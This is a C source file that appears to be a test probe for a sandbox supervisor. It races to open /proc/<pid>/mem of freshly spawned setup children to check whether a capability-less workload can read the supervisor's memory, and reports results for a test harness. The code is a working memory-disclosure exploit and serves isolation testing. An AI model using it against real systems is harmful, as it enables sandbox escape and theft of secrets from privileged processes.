/* The supervisor's memory through a setup child: a uid-0 workload without capabilities
 * and without a PID namespace of its own watches the host's newest pids and opens
 * /proc/<pid>/mem of each new process. A setup child of the supervisor (cloned with
 * CLONE_VM) still maps the supervisor's memory until its execve; once its permitted
 * capability set is a subset of ours, the open succeeds and the descriptor reads the
 * supervisor's memory for good.
 *
 * usage: setupmem ADDR_HEX SECRET SECONDS
 * prints RESULT mem OK <pid> when it read SECRET at ADDR of another process, else
 * RESULT mem ERR <opened> (how many /proc/<pid>/mem it could open: all of them after exec,
 * which hold the workload's own memory, not the supervisor's). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static long last_pid(void) {
    char b[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    if (fd < 0) return -1;
    ssize_t n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n <= 0) return -1;
    b[n] = 0;
    return atol(b);
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    unsigned long addr = strtoul(argv[1], 0, 16);
    const char *secret = argv[2];
    size_t len = strlen(secret);
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    double limit = atof(argv[3]);
    long opened = 0, me = getpid();
    char buf[256], path[64];
    printf("READY\n");
    fflush(stdout);
    for (;;) {
        long last = last_pid();
        for (long p = last - 4; p <= last + 4; p++) {
            if (p <= 1 || p == me) continue;
            snprintf(path, sizeof path, "/proc/%ld/mem", p);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            opened++;
            if (pread(fd, buf, len, (off_t)addr) == (ssize_t)len && memcmp(buf, secret, len) == 0) {
                /* Who it was, for the test's message. */
                char st[4096];
                snprintf(path, sizeof path, "/proc/%ld/status", p);
                int sfd = open(path, O_RDONLY);
                ssize_t n = sfd < 0 ? 0 : read(sfd, st, sizeof st - 1);
                st[n > 0 ? n : 0] = 0;
                for (char *c = st; *c; c++)
                    if (*c == '\n') *c = ';';
                printf("RESULT mem OK %ld %s\n", p, st);
                return 0;
            }
            close(fd);
        }
        clock_gettime(CLOCK_MONOTONIC, &t);
        if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > limit) break;
    }
    printf("RESULT mem ERR %ld\n", opened);
    return 0;
}
